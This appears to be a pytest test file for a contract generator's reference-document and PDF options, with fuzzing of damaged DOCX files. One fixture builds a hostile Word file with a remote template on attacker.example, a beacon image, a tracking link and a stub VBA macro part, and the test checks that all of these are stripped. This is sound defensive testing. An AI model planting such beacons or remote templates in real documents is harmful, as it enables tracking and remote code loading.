"""--reference-doc and --format pdf."""

from __future__ import annotations

import io
import os
import re
import shutil
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner
from docx.document import Document as DocxDocument
from docx.shared import Inches, Pt, Twips
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from slagen.cli import main
from slagen.errors import InputError
from slagen.provenance import read_provenance
from slagen.writers.reference import STYLES, load_reference, reference_info

from .conftest import DEMO, FUZZ_CASES

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


@pytest.fixture(scope="module")
def letter_reference(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A reference made from python-docx's default template: Times 12 pt, US Letter, its own header."""
    document = docx.Document()
    document.styles["Normal"].font.name = "Times New Roman"
    document.styles["Normal"].font.size = Pt(12)
    section = document.sections[0]
    section.page_width, section.page_height = Inches(8.5), Inches(11)
    document.add_paragraph("Leftover body text that must not appear")
    section.header.paragraphs[0].text = "ACME Legal"
    path = tmp_path_factory.mktemp("reference") / "letter.docx"
    document.save(str(path))
    return path


def build(tmp_path: Path, *options: str) -> tuple[int, str, Path]:
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["build", str(DEMO), "-o", str(out), "--lang", "en", *options])
    return result.exit_code, result.stderr, out


def test_reference_document_supplies_fonts_page_and_header(tmp_path: Path, letter_reference: Path) -> None:
    code, stderr, out = build(tmp_path, "--format", "docx", "--reference-doc", str(letter_reference))
    assert code == 0, stderr
    document = docx.Document(str(out / "telemarketing.en.docx"))
    assert document.styles["Normal"].font.name == "Times New Roman"
    assert document.sections[0].page_width == Inches(8.5)
    assert document.sections[0].header.paragraphs[0].text == "ACME Legal"
    assert "Leftover body text" not in "\n".join(p.text for p in document.paragraphs)
    assert {style.name for style in document.styles} >= set(STYLES)
    # the clause numbering is still a real list bound to the reference's heading styles
    numbering = document.part.numbering_part.element
    heading = document.styles["Heading 2"].element
    num_id = heading.find(f"{W}pPr/{W}numPr/{W}numId").get(f"{W}val")
    (num,) = [n for n in numbering.findall(f"{W}num") if n.get(f"{W}numId") == num_id]
    abstract_id = num.find(f"{W}abstractNumId").get(f"{W}val")
    (abstract,) = [a for a in numbering.findall(f"{W}abstractNum") if a.get(f"{W}abstractNumId") == abstract_id]
    level = abstract.find(f"{W}lvl[@{W}ilvl='1']")
    assert level.find(f"{W}lvlText").get(f"{W}val") == "%1.%2"
    assert level.find(f"{W}pStyle").get(f"{W}val") == document.styles["Heading 2"].style_id
    info = reference_info(document)
    section = document.sections[0]
    assert info.text_width == (Inches(8.5) - section.left_margin - section.right_margin) // 635


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"not a zip", "not a Word document (.docx) that can be used as reference"),
        (None, "reference document not found"),
    ],
)
def test_bad_reference_document(tmp_path: Path, content: bytes | None, message: str) -> None:
    path = tmp_path / "ref.docx"
    if content is not None:
        path.write_bytes(content)
    code, stderr, out = build(tmp_path, "--reference-doc", str(path))
    assert code == 2
    assert stderr == f"error: {path}: {message}\n"
    assert not out.exists()


def test_pdf_without_libreoffice_says_how_to_install_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("slagen.writers.pdf.shutil.which", lambda name: None)
    code, stderr, out = build(tmp_path, "--format", "pdf")
    assert code == 2
    assert stderr.startswith("error: PDF output needs LibreOffice, which is not installed: install it (Debian/Ubuntu")
    assert not out.exists()


@pytest.mark.skipif(
    shutil.which("soffice") is None and os.environ.get("CI") != "true", reason="LibreOffice is not installed"
)
def test_pdf_is_written_by_libreoffice(tmp_path: Path, letter_reference: Path) -> None:
    code, stderr, out = build(tmp_path, "--format", "pdf", "--format", "md", "--reference-doc", str(letter_reference))
    assert code == 0, stderr
    assert sorted(p.name for p in out.iterdir()) == ["telemarketing.en.md", "telemarketing.en.pdf"]
    pdf = (out / "telemarketing.en.pdf").read_bytes()
    assert pdf.startswith(b"%PDF-")
    assert len(pdf) > 20_000


def test_prepared_reference_is_reproducible(letter_reference: Path) -> None:
    assert load_reference(letter_reference) == load_reference(letter_reference)
    first = io.BytesIO(load_reference(letter_reference))
    assert docx.Document(first).element.body.find(f"{W}p") is None


# -- issue 15: hostile and unusual reference documents (reviews/reliability.md F11, F19, F20) ------------------------

RT_HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
RT_IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
RT_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
RT_SETTINGS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings"
RT_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
RT_CUSTOM = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/custom-properties"
CT_CUSTOM = "application/vnd.openxmlformats-officedocument.custom-properties+xml"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
A_NS = "http://schemas.openxmlformats.org/drawingml/2006/main"


def saved(document: DocxDocument) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def rewritten(data: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    """The zip ``data`` with every part passed through ``change`` (``None`` leaves the part out)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            new = change(name, source.read(name))
            if new is not None:
                target.writestr(name, new)
    return out.getvalue()


def in_part(part: str, pattern: bytes, replacement: bytes, count: int = 0) -> Callable[[str, bytes], bytes | None]:
    def change(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        new = re.sub(pattern, replacement, data, count=count, flags=re.S)
        assert new != data, f"{pattern!r} not in {part}"
        return new

    return change


def without_numbering(name: str, data: bytes) -> bytes | None:
    if name == "word/numbering.xml":
        return None
    return re.sub(rb'<Relationship [^>]*Target="numbering.xml"/>', b"", data) if name.endswith(".rels") else data


def header_with_only_a_table() -> bytes:
    document = docx.Document()
    header = document.sections[0].header
    header.add_table(rows=1, cols=2, width=Inches(6)).cell(0, 0).text = "ACME Legal"
    body = header.part.element
    body.remove(body.find(f"{W}p"))
    return saved(document)


def heading_as_character_style() -> bytes:
    return rewritten(
        saved(docx.Document()),
        in_part("word/styles.xml", rb'w:type="paragraph"( w:styleId="Heading1")', rb'w:type="character"\1'),
    )


def with_a_comment() -> bytes:
    document = docx.Document()
    paragraph = document.add_paragraph("x")
    document.add_comment(paragraph.runs, text="c", author="a")
    return saved(document)


UNUSUAL = {
    # the report's probe: no w:sectPr (valid OOXML; Word supplies defaults) -> slagen's A4
    "no section properties": (
        lambda: rewritten(saved(docx.Document()), in_part("word/document.xml", rb"<w:sectPr.*?</w:sectPr>", b"")),
        None,
    ),
    "no numbering part": (lambda: rewritten(saved(docx.Document()), without_numbering), None),
    "a header holding only a table": (header_with_only_a_table, None),
    "no styles part": (
        lambda: rewritten(
            saved(docx.Document()),
            lambda name, data: (
                None if name == "word/styles.xml" else re.sub(rb'<Relationship [^>]*Target="styles.xml"/>', b"", data)
            ),
        ),
        None,
    ),
    "a non-numeric abstractNumId": (
        lambda: rewritten(
            saved(docx.Document()), in_part("word/numbering.xml", rb'w:abstractNumId="0"', b'w:abstractNumId="x"')
        ),
        "its list numbering (word/numbering.xml) is damaged: w:abstractNum has the id 'x', not a number",
    ),
    "a list without its definition": (
        lambda: rewritten(
            saved(docx.Document()),
            in_part("word/numbering.xml", rb'(<w:num w:numId="1">)<w:abstractNumId w:val="8"/>', rb"\1"),
        ),
        "its list numbering (word/numbering.xml) is damaged: a w:num without w:abstractNumId",
    ),
    "a numId that is no number": (
        lambda: rewritten(
            saved(docx.Document()), in_part("word/numbering.xml", rb'w:numId="1"', b'w:numId="one\xe2\x80\xae"')
        ),
        "its list numbering (word/numbering.xml) is damaged: w:num has the id 'one\\u202e', not a number",
    ),
    "Heading 1 as a character style": (
        heading_as_character_style,
        "the style 'Heading 1' is a character style; slagen needs a paragraph style of that name",
    ),
    "a header reference to nothing": (
        lambda: rewritten(
            saved(docx.Document()),
            in_part(
                "word/document.xml", rb"(<w:sectPr[^>]*>)", rb'\1<w:headerReference w:type="default" r:id="rId99"/>'
            ),
        ),
        None,
    ),
    "a comment whose id is no number": (
        lambda: rewritten(with_a_comment(), in_part("word/comments.xml", rb'w:id="0"', b'w:id="zz"')),
        "cannot be used as reference: its XML is not as Word writes it (ValueError: invalid literal for int()",
    ),
    "no body": (
        lambda: rewritten(saved(docx.Document()), in_part("word/document.xml", rb"<w:body>.*</w:body>", b"")),
        "cannot be used as reference: its XML is not as Word writes it (TypeError: ",
    ),
    "the styles part under another relationship": (
        lambda: rewritten(
            saved(docx.Document()),
            in_part("word/_rels/document.xml.rels", rb'Type="[^"]*/styles"', b'Type="urn:other"'),
        ),
        "cannot be used as reference: its relationships are damaged (/word/styles.xml would be in it twice)",
    ),
    "a page width that is no number": (
        lambda: rewritten(saved(docx.Document()), in_part("word/document.xml", rb'w:w="12240"', b'w:w="wide"')),
        "cannot be used as reference: its XML is not as Word writes it (ValueError: ",
    ),
}


@pytest.mark.parametrize("case", UNUSUAL)
def test_f11_an_unusual_reference_works_or_is_refused_naming_the_file(case: str, tmp_path: Path) -> None:
    make, message = UNUSUAL[case]
    path = tmp_path / "unusual.docx"
    path.write_bytes(make())
    code, stderr, out = build(tmp_path, "--format", "docx", "--reference-doc", str(path))
    if message is None:
        assert (code, stderr) == (0, "")
        document = docx.Document(str(out / "telemarketing.en.docx"))
        assert document.paragraphs[0].text
        assert document.sections[0].page_width is not None
    else:
        assert code == 2
        assert stderr.startswith(f"error: {path}: {message}"), stderr
        assert not out.exists()


def test_f11_a_reference_without_section_properties_gets_a4(tmp_path: Path) -> None:
    path = tmp_path / "nosect.docx"
    path.write_bytes(UNUSUAL["no section properties"][0]())
    prepared = docx.Document(io.BytesIO(load_reference(path)))
    assert (prepared.sections[0].page_width, prepared.sections[0].page_height) == (Twips(11906), Twips(16838))


def hostile_reference() -> bytes:
    """A reference whose template, picture and link live on another server, with a VBA project, as the probe made it."""
    from docx.opc.packuri import PackURI
    from docx.opc.part import Part
    from docx.oxml.parser import parse_xml

    document = docx.Document()
    document.styles["Normal"].font.name = "Georgia"
    settings = document.settings.element
    template = document.part.part_related_by(RT_SETTINGS).relate_to(
        "file://attacker.example/share/evil.dotm", RT_TEMPLATE, is_external=True
    )
    settings.insert(0, parse_xml(f'<w:attachedTemplate xmlns:w="{W[1:-1]}" xmlns:r="{R_NS}" r:id="{template}"/>'))
    beacon = document.part.relate_to("http://attacker.example/beacon.png", RT_IMAGE, is_external=True)
    document.add_paragraph().add_run()._r.append(
        parse_xml(f'<a:blip xmlns:a="{A_NS}" xmlns:r="{R_NS}" r:link="{beacon}"/>')
    )
    header = document.sections[0].header
    link = header.part.relate_to("https://attacker.example/track", RT_HYPERLINK, is_external=True)
    paragraph = header.paragraphs[0]._p
    paragraph.append(
        parse_xml(
            f'<w:hyperlink xmlns:w="{W[1:-1]}" xmlns:r="{R_NS}" r:id="{link}"><w:r><w:t>ACME Legal</w:t></w:r></w:hyperlink>'
        )
    )
    vba = Part(
        PackURI("/word/vbaProject.bin"),
        "application/vnd.ms-office.vbaProject",
        b"Attribute VB_Name",
        document.part.package,
    )
    document.part.relate_to(vba, RT_VBA)
    return saved(document)


def test_f20_external_relationships_and_macros_of_the_reference_reach_no_contract(tmp_path: Path) -> None:
    path = tmp_path / "hostile.docx"
    path.write_bytes(hostile_reference())
    with zipfile.ZipFile(path) as archive:  # the probe's reference holds all three
        assert "word/vbaProject.bin" in archive.namelist()
        assert b'TargetMode="External"' in archive.read("word/_rels/settings.xml.rels")
    code, stderr, out = build(tmp_path, "--format", "docx", "--reference-doc", str(path))
    assert (code, stderr) == (0, "")
    contract = out / "telemarketing.en.docx"
    with zipfile.ZipFile(contract) as archive:
        names = archive.namelist()
        parts = {name: archive.read(name) for name in names}
    assert not [name for name in names if "vba" in name.lower()]
    assert not [name for name, data in parts.items() if name.endswith(".rels") and b"External" in data]
    assert not [name for name, data in parts.items() if b"attacker.example" in data]
    assert b"attachedTemplate" not in parts["word/settings.xml"]
    assert b"vbaProject" not in parts["[Content_Types].xml"]
    # what a reference is for stays: its styles, and its header, whose text keeps without the link
    document = docx.Document(str(contract))
    assert document.styles["Normal"].font.name == "Georgia"
    assert document.sections[0].header.paragraphs[0].text == "ACME Legal"
    header = next(data for name, data in parts.items() if name.startswith("word/header"))
    assert b"hyperlink" not in header
    assert b"ACME Legal" in header


def with_custom_properties(data: bytes, properties: str) -> bytes:
    """``data`` (a DOCX) with a docProps/custom.xml of ``properties``, related and typed as Word does."""
    part = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Properties xmlns="http://schemas.openxmlformats.org/'
        'officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'docPropsVTypes">{properties}</Properties>'
    ).encode()

    def change(name: str, content: bytes) -> bytes:
        if name == "_rels/.rels":
            return content.replace(
                b"</Relationships>",
                f'<Relationship Id="rId99" Type="{RT_CUSTOM}" Target="docProps/custom.xml"/></Relationships>'.encode(),
            )
        if name == "[Content_Types].xml":
            return content.replace(
                b"</Types>", f'<Override PartName="/docProps/custom.xml" ContentType="{CT_CUSTOM}"/></Types>'.encode()
            )
        return content

    out = io.BytesIO(rewritten(data, change))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("docProps/custom.xml", part)
    return out.getvalue()


FMTID = "{D5CDD505-2E9C-101B-9397-08002B2CF9AE}"
COMPANY = (
    f'<property fmtid="{FMTID}" pid="2" name="Department"><vt:lpwstr>Legal</vt:lpwstr></property>'
    f'<property fmtid="{FMTID}" pid="3" name="Reviewed"><vt:bool>true</vt:bool></property>'
    f'<property fmtid="{FMTID}" pid="4" name="slagen.tier"><vt:lpwstr>stale</vt:lpwstr></property>'
)


def names_twice(path: Path) -> list[str]:
    names = zipfile.ZipFile(path).namelist()
    return sorted({name for name in names if names.count(name) > 1})


def test_f19_a_reference_with_its_own_custom_properties_gives_each_part_once(tmp_path: Path) -> None:
    """Merged: the reference's own properties are kept (its fields may show them), slagen's replace any of theirs."""
    path = tmp_path / "company.docx"
    path.write_bytes(with_custom_properties(saved(docx.Document()), COMPANY))
    code, stderr, out = build(tmp_path, "--format", "docx", "--reference-doc", str(path))
    assert (code, stderr) == (0, "")
    contract = out / "telemarketing.en.docx"
    assert names_twice(contract) == []
    custom = zipfile.ZipFile(contract).read("docProps/custom.xml").decode()
    assert 'pid="2" name="Department"><vt:lpwstr>Legal</vt:lpwstr>' in custom
    assert 'pid="3" name="Reviewed"><vt:bool>true</vt:bool>' in custom
    assert custom.count('name="slagen.tier"') == 1
    assert 'name="slagen.tier"><vt:lpwstr>professional</vt:lpwstr>' in custom
    assert sorted(int(pid) for pid in re.findall(r'pid="(\d+)"', custom)) == list(
        range(2, 2 + custom.count("<property"))
    )
    found = read_provenance(contract)
    assert found.properties["slagen.tier"] == "professional"
    assert "Department" not in found.properties


def test_f19_a_contract_used_as_reference_gives_each_part_once_and_its_own_provenance(tmp_path: Path) -> None:
    first = tmp_path / "first"
    assert CliRunner().invoke(main, ["build", str(DEMO), "-o", str(first), "--format", "docx"]).exit_code == 0
    reference = first / "telemarketing.de.docx"
    other = tmp_path / "other.yaml"
    other.write_text(DEMO.read_text(encoding="utf-8").replace("tier: professional", "tier: basic"), encoding="utf-8")
    out = tmp_path / "out"
    result = CliRunner().invoke(
        main,
        ["build", str(other), "-o", str(out), "--lang", "en", "--format", "docx", "--reference-doc", str(reference)],
    )
    assert result.exit_code == 0, result.output
    contract = out / "other.en.docx"
    assert names_twice(contract) == []
    found = read_provenance(contract)
    assert found.properties["slagen.tier"] == "basic"
    assert found.answers == other.read_text(encoding="utf-8")
    assert zipfile.ZipFile(contract).read("docProps/custom.xml").count(b"<property") == len(found.properties)


def test_f19_f20_the_prepared_reference_holds_no_provenance_and_no_active_content(tmp_path: Path) -> None:
    path = tmp_path / "company.docx"
    path.write_bytes(with_custom_properties(hostile_reference(), COMPANY))
    with zipfile.ZipFile(io.BytesIO(load_reference(path))) as prepared:
        custom = prepared.read("docProps/custom.xml")
        names = prepared.namelist()
    assert b"Department" in custom
    assert b"slagen." not in custom
    assert "word/vbaProject.bin" not in names


XML_PARTS = (
    "word/document.xml",
    "word/styles.xml",
    "word/numbering.xml",
    "word/settings.xml",
    "word/_rels/document.xml.rels",
)


DEFAULT_DOCX = saved(docx.Document())


@st.composite
def damages(draw: st.DrawFn) -> tuple[str, int, str | None, str | None]:
    """One element of one part of python-docx's default document: taken out, or one attribute given another value."""
    part = draw(st.sampled_from(XML_PARTS))
    count = len(list(etree.fromstring(zipfile.ZipFile(io.BytesIO(DEFAULT_DOCX)).read(part)).iter(tag=etree.Element)))
    index = draw(st.integers(1, count - 1))
    if not draw(st.booleans()):
        return part, index, None, None
    value = draw(st.sampled_from(["", "x", "-1", "99999", "1.5", "rId999", "\u202e", "0" * 12]))
    return part, index, draw(st.integers(0, 20)).__str__(), value


def damaged(part: str, index: int, attribute: str | None, value: str | None) -> bytes:
    root = etree.fromstring(zipfile.ZipFile(io.BytesIO(DEFAULT_DOCX)).read(part))
    element = list(root.iter(tag=etree.Element))[index]
    names = sorted(element.attrib)
    if attribute is not None and value is not None and names:
        element.set(names[int(attribute) % len(names)], value)
    else:
        element.getparent().remove(element)
    new = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)
    return rewritten(DEFAULT_DOCX, lambda name, data: new if name == part else data)


@given(damages())
def test_fuzz_a_damaged_reference_is_used_or_refused_naming_the_file(
    damage: tuple[str, int, str | None, str | None],
) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "fuzzed.docx"
        path.write_bytes(damaged(*damage))
        refused: list[InputError] = []
        try:
            load_reference(path)
        except InputError as exc:
            refused.append(exc)
        assert all(problem.file == str(path) for error in refused for problem in error.problems)
        FUZZ_CASES[f"reference document:{'refused' if refused else 'used'}"] += 1


def _languages(docx_path: Path) -> tuple[list[str], str]:
    with zipfile.ZipFile(docx_path) as package:
        styles = package.read("word/styles.xml").decode("utf-8")
        settings = package.read("word/settings.xml").decode("utf-8")
    return re.findall(r'<w:lang w:val="([^"]+)"', styles), settings


@pytest.mark.parametrize("with_reference", [False, True], ids=["bundled", "reference-doc"])
def test_every_run_is_in_the_documents_language_and_hyphenated(
    tmp_path: Path, letter_reference: Path, with_reference: bool
) -> None:
    """Visual review M2: an English contract is tagged en-GB, a German one de-DE, whatever the reference says."""
    reference = tmp_path / "proofed.docx"
    document = docx.Document(str(letter_reference))
    settings = document.settings.element
    settings.append(settings.makeelement(f"{W}proofState", {f"{W}spelling": "clean", f"{W}grammar": "clean"}))
    document.save(str(reference))
    options = ["--reference-doc", str(reference)] if with_reference else []
    result = CliRunner().invoke(main, ["build", str(DEMO), "-o", str(tmp_path / "out"), "--format", "docx", *options])
    assert result.exit_code == 0, result.output
    for lang, tag in (("de", "de-DE"), ("en", "en-GB")):
        languages, settings_xml = _languages(tmp_path / "out" / f"{DEMO.stem}.{lang}.docx")
        assert languages == [tag]  # once, in the document defaults: no style of the reference overrides it
        assert "<w:autoHyphenation/>" in settings_xml
        assert "proofState" not in settings_xml  # Word checks the spelling again
